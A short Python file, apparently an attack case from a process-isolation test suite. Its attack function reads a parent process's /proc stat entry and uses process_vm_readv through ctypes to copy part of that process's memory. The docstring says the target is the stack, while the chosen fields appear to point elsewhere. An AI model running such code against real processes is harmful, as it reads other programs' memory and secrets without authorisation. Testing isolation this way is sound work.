"""Copies the worker's memory by process_vm_readv, having found its stack."""

import ctypes


def attack(world):
    fields = open(f"/proc/{world['parent']}/stat").read().rpartition(")")[2].split()
    begin, size = int(fields[47]), 4000
    data = ctypes.create_string_buffer(size)
    mine = (ctypes.c_size_t * 2)(ctypes.addressof(data), size)
    theirs = (ctypes.c_size_t * 2)(begin, min(size, int(fields[48]) - begin))
    library = ctypes.CDLL(None, use_errno=True)
    library.process_vm_readv(world["parent"], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return data.raw.decode(errors="replace")
